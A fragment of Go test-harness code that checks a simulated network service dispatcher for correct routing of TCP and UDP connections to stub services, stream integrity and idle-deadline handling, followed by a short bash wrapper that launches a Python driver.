	stubHub.PreReadMs = sc.ParamInt("pre_read_ms", 0)
	obs := RunScenario(t, sc, nil)
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	p := decodeC08Params(sc)
	table := effectiveTable(p.Ports, func(s string) bool { return p.stub(s) != nil })
	calls := stubHub.snapshot()
	res.Nontriv = false
	for _, a := range sc.Actors {
		for i, o := range a.Ops {
			if o.K == "sleep" && o.Ms >= 30000 {
				res.fault("client-silent-past-the-30s-deadline", 1)
			}
			if o.K == "close" && i == 0 {
				res.fault("client-closes-without-sending", 1)
			}
		}
	}
	res.fault("deadline-fired", obs.NetStats.DeadlineFires)
	for ai := range sc.Actors {
		a := &sc.Actors[ai]
		e := lookupEntry(table, a.Kind, hostOf(a.Dst), portOf(a.Dst))
		want, ok, peeked := expectedService(&p, e, a, &obs.Conns[ai])
		if peeked {
			res.probe("peeked", 1)
			res.Nontriv = true
		}
		if e != nil && len(e.Services) > 1 {
			res.Nontriv = true
		}
		var mine []stubCall
		for _, c := range calls {
			if c.Remote == a.Src {
				mine = append(mine, c)
			}
		}
		stream := fullStream(a)
		site := "tcp"
		if a.Kind == "udp" {
			site = "udp"
		}
		if !ok {
			res.probe("expect-none", 1)
			if len(mine) != 0 {
				res.Violate("service-invoked-but-none-expected", site, fmt.Sprintf("actor %d (%s -> %s): stub %s invoked with %d bytes although no port/detector matches", ai, a.Src, a.Dst, mine[0].Name, len(mine[0].Data)))
				return res
			}
			if a.Kind == "tcp" && !obs.Conns[ai].Refused && !obs.Conns[ai].ServerClosed {
				res.Violate("unmatched-connection-not-closed", site, fmt.Sprintf("actor %d (%s -> %s): connection matching no service was not closed by the server", ai, a.Src, a.Dst))
				return res
			}
			continue
		}
		res.probe("expect-service", 1)
		if len(mine) == 0 {
			res.Violate("no-service-invoked", site, fmt.Sprintf("actor %d (%s -> %s): expected stub %s, none was invoked (refused=%v)", ai, a.Src, a.Dst, want, obs.Conns[ai].Refused))
			return res
		}
		if len(mine) > 1 {
			res.Violate("several-services-invoked", site, fmt.Sprintf("actor %d: %d stub invocations", ai, len(mine)))
			return res
		}
		c := mine[0]
		if c.Name != want {
			res.Violate("wrong-service", site, fmt.Sprintf("actor %d (%s -> %s): stub %s invoked, the rule selects %s (services %v, first segment %q)", ai, a.Src, a.Dst, c.Name, want, e.Services, short(string(firstSeg(a)), 60)))
			return res
		}
		// an idle gap of >= 30 s ends the stream for the service (idle deadline): only a prefix is required then
		idle := false
		co := &obs.Conns[ai]
		prev := co.ConnectMs
		for _, tm := range co.SegMs {
			if tm-prev >= 30000 {
				idle = true
			}
			prev = tm
		}
		if co.EndMs-prev >= 30000 {
			idle = true
		}
		if idle {
			res.probe("idle-deadline-hit", 1)
			if !bytes.HasPrefix(stream, c.Data) {
				res.Violate("stream-corrupt", site, fmt.Sprintf("actor %d: stub %s read bytes that are not a prefix of the client's stream", ai, c.Name))
				return res
			}
			continue
		}
		if !bytes.Equal(c.Data, stream) {
			kind := "stream-not-intact"
			if peeked {
				kind = "stream-not-intact-after-peek"
			}
			res.Violate(kind, site, fmt.Sprintf("actor %d (%s -> %s): stub %s read %d bytes %q..., client sent %d bytes %q... (read error %q)", ai, a.Src, a.Dst, c.Name, len(c.Data), short(string(c.Data), 40), len(stream), short(string(stream), 40), c.ReadErr))
			return res
		}
		if !c.Done {
			res.Violate("handler-not-finished", site, fmt.Sprintf("actor %d: stub %s still running after the drain", ai, c.Name))
			return res
		}
		if peeked {
			res.probe("peeked-bytes-replayed", 1)
		}
	}
	return res
}

func firstSeg(a *Actor) []byte {
	s, _, _ := firstSegment(a)
	return s
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}
