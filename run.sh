#!/bin/bash
# ./run.sh <Cxx> <quick|thorough>   |   ./run.sh replay <file>
cd "$(dirname "$0")"
exec python3 driver/run.py "$@"
